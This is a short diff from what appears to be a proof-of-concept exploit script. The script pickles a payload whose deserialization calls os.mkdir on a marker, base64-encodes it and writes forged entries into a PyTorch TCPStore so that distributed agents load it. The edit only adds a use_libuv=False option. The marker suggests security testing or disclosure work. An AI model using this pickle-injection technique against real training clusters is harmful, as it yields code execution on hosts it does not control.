@@ -315,7 +315,8 @@ class Payload:
         return (os.mkdir, (marker,))
 
 evil = base64.b64encode(pickle.dumps(Payload())).decode()
-store = TCPStore(host, int(port), is_master=False, timeout=timedelta(seconds=30))
+# use_libuv=False: the image's torch may be built without libuv, which refuses the default even for a client
+store = TCPStore(host, int(port), is_master=False, timeout=timedelta(seconds=30), use_libuv=False)
 writes = 0
 # The first agent to touch a forgery refuses it and writes its own state over it within a keep-alive (1 s),
 # so each forgery reaches about one agent: FORGERIES of them, at random spacing (no phase lock with one
